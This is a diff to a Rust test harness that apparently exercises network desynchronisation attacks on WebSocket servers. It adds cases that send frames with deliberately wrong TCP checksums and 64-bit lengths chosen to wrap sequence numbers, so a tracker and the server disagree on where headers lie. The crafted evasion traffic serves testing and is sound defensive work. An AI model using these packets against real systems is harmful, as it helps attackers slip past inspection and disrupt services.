@@ -129,19 +129,47 @@ fn right_of_the_window(attacker: &Attacker) -> Result<Peers> {
     one(tcp)
 }
 
+/// Header of a frame of that length, in 64 bits.
+fn long(length: u64) -> Vec<u8> {
+    [&[0x82, 0xFF][..], &length.to_be_bytes(), &[0; 4]].concat()
+}
+
 /// Lengths that differ by the whole space of sequence numbers:
 /// the server discards the longer one, and a comparison of where the next header is cannot tell the
 /// two apart.
 fn length_of_a_lap_more(attacker: &Attacker) -> Result<Peers> {
+    length_of(attacker, 1 << 32)
+}
+
+/// The same of lengths that differ by what the tracker counts apart from the next header's place.
+fn length_of_strides_more(attacker: &Attacker) -> Result<Peers> {
+    length_of(attacker, 3 << 30)
+}
+
+fn length_of(attacker: &Attacker, more: u64) -> Result<Peers> {
     let length = 0x1_0000_u64;
-    let header = |length: u64| [&[0x82, 0xFF][..], &length.to_be_bytes(), &[0; 4]].concat();
     let mut tcp = attacker.connect()?;
-    let mut bait = tcp.segment(0, header(length + (1 << 32)));
+    let mut bait = tcp.segment(0, long(length + more));
     bait.checksum = Checksum::Wrong;
     tcp.send(&bait)?;
     not_taken(&mut tcp)?;
-    persist_all(&mut tcp, &header(length))?;
+    persist_all(&mut tcp, &long(length))?;
     persist_all(&mut tcp, &vec![0; length as usize])?;
+    persist_all(&mut tcp, &pings(PINGS))?;
+    one(tcp)
+}
+
+/// Headers past the server's window, each where the one before it says: once around the sequence numbers,
+/// so that what the server waits for seems to be payload.
+fn headers_past_any_window(attacker: &Attacker) -> Result<Peers> {
+    const LENGTH: u64 = 900 << 20;
+    let mut tcp = attacker.connect()?;
+    for number in 0..5 {
+        let mut bait = tcp.segment(number * (14 + LENGTH as i64), long(LENGTH));
+        bait.checksum = Checksum::Wrong;
+        tcp.send(&bait)?;
+    }
+    not_taken(&mut tcp)?;
     persist_all(&mut tcp, &pings(PINGS))?;
     one(tcp)
 }
@@ -172,5 +200,7 @@ pub const ROWS: &[Row] = &[
     Row::new("right_of_the_window", ALL, right_of_the_window),
     Row::new("length_of_a_lap_more", ALL, length_of_a_lap_more),
     Row::new("length_of_a_lap_more_ws", ALL, length_of_a_lap_more).on(Library::Ws),
+    Row::new("length_of_strides_more", ALL, length_of_strides_more),
+    Row::new("headers_past_any_window", ALL, headers_past_any_window),
     Row::new("bad_ip_checksum", ALL, bad_ip_checksum).only(&[Family::V4]),
 ];
